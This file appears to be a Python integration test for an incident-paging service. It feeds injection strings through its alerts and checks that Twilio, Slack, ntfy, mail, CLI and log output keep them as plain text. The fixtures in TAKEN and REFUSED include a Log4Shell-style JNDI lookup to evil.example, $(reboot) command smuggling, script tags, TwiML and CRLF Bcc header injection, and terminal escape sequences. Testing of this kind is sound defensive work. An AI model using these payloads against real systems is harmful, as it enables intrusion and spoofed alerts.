"""What a source says stays words (test 21 of the reliability notes): in every channel, in a terminal and in the logs, whatever
control characters, marks of direction, markup or formats it holds."""
import json
import re
import time
import xml.etree.ElementTree as xml

from answers import AnswerableWorld
from cluster import TIERS, eventually
from wire import PUBLISH, Client, intake, key, rpc

# Taken as they are, each for a service of its own, and told to people.
TAKEN = {
    "bidi": "pods \u202egnp.exe\u202c \u2066evil\u2069 \u200bzero\ufeff width",
    "html": "</title><script>alert(1)</script> <img src=x onerror=alert(1)> &lt;b&gt; &#60;",
    "twiml": "</Say><Hangup/><Say>all is well</Say> ]]> <!-- <?xml version='1.1'?>",
    "slack": "<!channel> <!here|here> <@U024BE7LH> <https://evil.example|Acknowledge> *bold* `code`",
    "format": "%s %n %@ %x {0} ${jndi:ldap://evil.example/a} $(reboot) `reboot` ; reboot",
    "json": "\"},{\"severity\":\"SEV-4\"} \\u0000 \\n \\\\ \\x1b[31m",
    "mail": "Subject: x%0d%0aBcc: all@evil.example =?utf-8?q?=0d=0aBcc:_x?=",
    "codes": "reply 000000 ack http://127.0.0.1/answer/x",
    "wide": "\U0001f4a3\u0301\u0301\u0301 " + "e\u0301" * 300,
}
# Refused at the door, with the field's name.
REFUSED = {
    "escape": ("summary", "\x1b[31mred\x1b]0;title\x07"), "lines": ("summary", "pods down\r\n[SEV-4] all well"),
    "nul": ("summary", "pods\0down"), "c1": ("service", "pods\u009b31m"), "large": ("details", "x" * 60_000),
}
ELEMENTS = {"Response", "Say", "Gather", "Pause", "Hangup", "Redirect"}


def hidden(text, lines=True):
    """Characters that a reader doesn't see, or that a terminal obeys."""
    return re.findall("[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b\u200e\u200f\u202a-\u202e\u2060-\u206f\ufeff]" if lines else "[\x00-\x1f\x7f-\x9f]", text)


def event(name, **fields):
    said = {"summary": TAKEN.get(name, ""), "service": f"service-{name}", **fields}
    return intake.Event(
        action=intake.ACTION_TRIGGER, source="cluster", dedup_key=name, severity=1, alert_class="service_down",
        labels=[{"name": "words", "value": said["summary"][:200]}], **said).SerializeToString()


def words(world, provider):
    """Everything that one provider was told, as text."""
    return [(line, value) for line in world.asked(provider) for value in strings(line["fields"])]


def strings(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for inner in value.values():
            yield from strings(inner)
    elif isinstance(value, list):
        for inner in value:
            yield from strings(inner)


class Unhurried(AnswerableWorld):
    """Nothing is held back for a digest."""

    def configure(self):
        super().configure()
        contacts = self.cluster.folder / "config/contacts.yaml"
        contacts.write_text(contacts.read_text().replace("kind: Contacts\n", "kind: Contacts\nlimits: { pages-per-minute: 60 }\n"))
        self.cluster.ctl("apply", "-f", contacts.parent)


def what_a_source_says_stays_words(binaries):
    with Unhurried(binaries, rate=60) as world:
        cluster = world.cluster
        client = Client(cluster.sources())
        for name, (field, text) in REFUSED.items():
            found = client.call(PUBLISH, event(name, **{"summary": "x", field: text}), key(), wait=5)
            assert found and found[0].status in (3, 8, 11), f"{name}: {found}"
            assert field in str(found[0]), f"{name}: {found[0]}"
        client.close()
        client = Client(cluster.sources())
        for name in TAKEN:
            client.publish_until_ok(event(name), key())
            time.sleep(0.3)  # 18 s of the tiers' clock: what is due together goes along in one message, which names the worst
        calls = eventually("a call about each", 60, lambda: (
            found := [line for line in world.taken("twilio") if line["path"].endswith("/Calls.json")])
            and all(any(f"service-{name}" in json.dumps(line["fields"]) for line in found) for name in TAKEN) and found)
        for line in calls:
            spoken = xml.fromstring(line["fields"]["Twiml"])
            assert {element.tag for element in spoken.iter()} <= ELEMENTS, line["fields"]["Twiml"]
            assert sum(element.tag == "Hangup" for element in spoken.iter()) <= 1, line["fields"]["Twiml"]
        counted = {"twilio calls": len(calls)}
        for provider in ("ntfy", "twilio", "slack"):
            told = words(world, provider)
            counted[provider] = len(told)
            assert len(told) > len(TAKEN), provider
            for line, value in told:
                assert not hidden(value), f"{provider}: {hidden(value)} in {value!r}"
                assert not line["fields"].get("rung"), f"Slack would ring for {line['fields']}"
        for letter in world.mailbox.letters:
            assert set(letter[1].keys()) & {"Bcc", "bcc"} == set() and "\n" not in letter[1]["Subject"], letter
        for body in cluster.receiver.received():
            assert not hidden(body["text"]), body
        incidents = cluster.json("incident", "list")["incidents"]
        shown = [cluster.ctl("incident", "list"), cluster.ctl("page", "list"), cluster.ctl("alert", "list")]
        for incident in incidents:
            shown += [cluster.ctl("incident", what, incident["id"]) for what in ("show", "timeline")]
        for text in shown:
            assert not hidden(text), f"{hidden(text)} in {text!r}"
        assert len(incidents) == len(TAKEN), incidents
        lines = [line for tier in TIERS for line in (cluster.folder / f"{tier}.log").read_bytes().decode().splitlines()]
        for line in lines:
            assert re.match(r"\d\d:\d\d:\d\d\.\d+ [a-z]+ [a-z-]+: ", line) and not hidden(line), line
        return f"{len(TAKEN)} told, {len(REFUSED)} refused; looked at: {counted}, {len(shown)} tables, {len(lines)} lines of logs"


ALL = [what_a_source_says_stays_words]
